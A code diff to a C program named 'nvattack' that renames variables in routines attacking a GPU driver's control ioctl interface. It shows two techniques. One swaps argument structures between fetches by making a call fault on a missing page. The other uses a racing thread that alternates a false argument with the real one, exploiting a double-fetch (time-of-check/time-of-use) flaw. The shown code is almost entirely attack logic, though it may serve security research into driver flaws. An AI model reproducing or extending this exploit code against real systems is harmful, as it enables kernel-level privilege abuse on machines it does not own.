@@ -152,7 +152,7 @@ static void *lay(const void *before, const void *after, size_t size)
 
 static int by_fault(const struct row *row, const struct claim *claim, bool wrapping)
 {
-	struct nv_control_arg said = claimed(row, claim), meant = truly(row);
+	struct nv_control_arg false_arg = claimed(row, claim), true_arg = truly(row);
 	uint32_t pid = 0;
 	unsigned faults = lure.faults;
 	int rc;
@@ -160,25 +160,25 @@ static int by_fault(const struct row *row, const struct claim *claim, bool wrapp
 	prepare(row);
 	if (wrapping) {
 		/* The wrapping is what changes: it points to one argument, then to another. */
-		struct nv_xfer_arg before = { 0x2a, sizeof(said), (uintptr_t)&said };
-		struct nv_xfer_arg after = { 0x2a, sizeof(meant), (uintptr_t)&meant };
+		struct nv_xfer_arg before = { 0x2a, sizeof(false_arg), (uintptr_t)&false_arg };
+		struct nv_xfer_arg after = { 0x2a, sizeof(true_arg), (uintptr_t)&true_arg };
 
 		rc = ioctl(ctl, nv_ioc(211, sizeof(before), &way), lay(&before, &after, sizeof(before)));
 	} else {
-		rc = nv_control_send(ctl, lay(&said, &meant, sizeof(said)), &way);
-		memcpy(&meant, lure.pages + PAGE - 8, sizeof(meant));
+		rc = nv_control_send(ctl, lay(&false_arg, &true_arg, sizeof(false_arg)), &way);
+		memcpy(&true_arg, lure.pages + PAGE - 8, sizeof(true_arg));
 	}
 	if (lure.faults == faults)
 		nv_die("nvattack: no call touched the missing page", -EIO);
 	pid = found(row);
-	return report(row, claim->name, 1, rc == 0 && meant.status == 0, pid != 0, pid);
+	return report(row, claim->name, 1, rc == 0 && true_arg.status == 0, pid != 0, pid);
 }
 
 /* --- by a race --- */
 
 static struct {
 	volatile struct nv_control_arg arg;
-	struct nv_control_arg said[CLAIMS], meant;
+	struct nv_control_arg false_args[CLAIMS], true_arg;
 	const struct row *row;
 	volatile int stop;
 	volatile uint32_t seen;
@@ -190,7 +190,7 @@ static void *exchanger(void *unused)
 	unsigned turn = 0, i;
 
 	while (!race.stop) {
-		const struct nv_control_arg *next = turn++ & 1 ? &race.meant : &race.said[turn / 2 % CLAIMS];
+		const struct nv_control_arg *next = turn++ & 1 ? &race.true_arg : &race.false_args[turn / 2 % CLAIMS];
 
 		race.arg.cmd = next->cmd;
 		race.arg.size = next->size;
@@ -225,10 +225,10 @@ static int by_race(const struct row *row, double seconds)
 	race.row = row;
 	race.stop = 0;
 	race.hits = 0;
-	race.meant = truly(row);
+	race.true_arg = truly(row);
 	for (i = 0; i < CLAIMS; i++)
-		race.said[i] = claimed(row, &claims[i]);
-	memcpy((void *)&race.arg, &race.meant, sizeof(race.meant));
+		race.false_args[i] = claimed(row, &claims[i]);
+	memcpy((void *)&race.arg, &race.true_arg, sizeof(race.true_arg));
 	prepare(row);
 	thread[0] = nv_thread(exchanger, NULL);
 	thread[1] = nv_thread(looker, NULL);
